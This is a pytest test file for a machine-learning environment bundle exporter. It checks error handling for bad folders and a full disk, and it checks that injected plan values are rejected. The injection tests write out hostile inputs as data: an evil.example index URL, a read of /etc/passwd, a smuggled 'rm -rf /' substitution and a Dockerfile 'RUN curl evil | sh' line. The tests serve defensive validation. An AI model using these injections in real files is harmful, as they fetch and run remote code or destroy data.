"""Bad folders, a full disk and bad plan files: a clear error and no partial bundle."""

from __future__ import annotations

import errno
import os
import re
from pathlib import Path

import pytest

from dlconfig.export import replace as replace_module
from dlconfig.export.bundle import export_bundle
from dlconfig.export.errors import ExportError
from dlconfig.kb import KnowledgeBase

from .conftest import load_plan


def _fake_pdf(*_: object) -> bytes:
    return b"%PDF-1.4\n"


def test_non_empty_folder_is_refused_without_force(tmp_path: Path, kb: KnowledgeBase) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    with pytest.raises(ExportError, match=r"not empty.*--force"):
        export_bundle(load_plan("cpu_only_laptop"), out, kb=kb, write_pdf=_fake_pdf)
    assert sorted(p.name for p in out.iterdir()) == ["notes.txt"]


def test_force_replaces_bundle_files_and_keeps_the_users(tmp_path: Path, kb: KnowledgeBase) -> None:
    out = tmp_path / "out"
    export_bundle(load_plan("cpu_only_laptop"), out, kb=kb, write_pdf=_fake_pdf)
    (out / "notes.txt").write_text("mine")
    (out / "Dockerfile").unlink()
    export_bundle(load_plan("cpu_only_laptop"), out, kb=kb, force=True, write_pdf=_fake_pdf)
    assert (out / "notes.txt").read_text() == "mine"
    assert (out / "Dockerfile").read_text().startswith("# syntax=docker/dockerfile:1")
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores folder permissions")
def test_read_only_folder_gives_a_clear_error(tmp_path: Path, kb: KnowledgeBase) -> None:
    parent = tmp_path / "ro"
    parent.mkdir()
    parent.chmod(0o555)
    try:
        with pytest.raises(ExportError, match="cannot write"):
            export_bundle(load_plan("cpu_only_laptop"), parent / "out", kb=kb, write_pdf=_fake_pdf)
        assert list(parent.iterdir()) == []
    finally:
        parent.chmod(0o755)


def test_unwritable_folder_gives_a_clear_error(
    tmp_path: Path, kb: KnowledgeBase, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Same path as a read-only folder, simulated so that it also holds when run as root."""

    def refuse(*_: object, **__: object) -> str:
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(replace_module.os, "mkdir", refuse)
    with pytest.raises(ExportError, match=r"cannot write to .*Permission denied"):
        export_bundle(load_plan("cpu_only_laptop"), tmp_path / "out", kb=kb, write_pdf=_fake_pdf)
    assert list(tmp_path.iterdir()) == []


def test_full_disk_leaves_no_partial_bundle(
    tmp_path: Path, kb: KnowledgeBase, monkeypatch: pytest.MonkeyPatch
) -> None:
    real_open = open
    count = {"n": 0}

    def filling_open(path: object, mode: str = "r", *args: object, **kwargs: object):  # type: ignore[no-untyped-def]
        handle = real_open(path, mode, *args, **kwargs)  # type: ignore[call-overload]
        if "w" in mode:
            count["n"] += 1
            if count["n"] == 4:
                handle.close()
                raise OSError(errno.ENOSPC, "No space left on device")
        return handle

    monkeypatch.setattr("builtins.open", filling_open)
    with pytest.raises(ExportError, match=r"disk is full.*nothing was written"):
        export_bundle(
            load_plan("linux_single_gpu_pytorch"), tmp_path / "out", kb=kb, write_pdf=_fake_pdf
        )
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("line", "message"),
    [
        ("--index-url http://evil.example/simple", "--index-url URL"),
        ("-r /etc/passwd", "requirement_lines"),
        ("torch==2.9.1 ; $(rm -rf /)", "requirement_lines"),
    ],
)
def test_plan_with_injected_requirement_is_refused(
    tmp_path: Path, kb: KnowledgeBase, line: str, message: str
) -> None:
    plan = load_plan("linux_single_gpu_pytorch")
    assert plan.stack is not None
    stack = plan.stack.model_copy(update={"requirement_lines": [line, "numpy==2.3.5"]})
    with pytest.raises(ExportError, match=re.escape(message)):
        export_bundle(
            plan.model_copy(update={"stack": stack}),
            tmp_path / "out",
            kb=kb,
            write_pdf=_fake_pdf,
        )
    assert list(tmp_path.iterdir()) == []


def test_a_variant_index_in_the_plan_becomes_one_extra_index(
    tmp_path: Path, kb: KnowledgeBase
) -> None:
    plan = load_plan("linux_single_gpu_pytorch")
    assert plan.stack is not None
    url = "https://download.pytorch.org/whl/cu128"
    stack = plan.stack.model_copy(
        update={"index_url": url, "requirement_lines": [f"--index-url {url}", "torch==2.9.1"]}
    )
    export_bundle(
        plan.model_copy(update={"stack": stack}), tmp_path / "o", kb=kb, write_pdf=_fake_pdf
    )
    text = (tmp_path / "o" / "requirements.txt").read_text()
    # An --index-url pointing at PyTorch's variant index would hide the main index.
    assert text.count(url) == 1 and f"--extra-index-url {url}\n" in text
    assert "\n--index-url" not in text


def test_plan_with_injected_image_is_refused(tmp_path: Path, kb: KnowledgeBase) -> None:
    plan = load_plan("linux_single_gpu_pytorch")
    assert plan.container is not None
    container = plan.container.model_copy(
        update={"runtime_image": "ubuntu:24.04\nRUN curl evil | sh"}
    )
    with pytest.raises(ExportError, match=r"container\.runtime_image"):
        export_bundle(
            plan.model_copy(update={"container": container}),
            tmp_path / "out",
            kb=kb,
            write_pdf=_fake_pdf,
        )
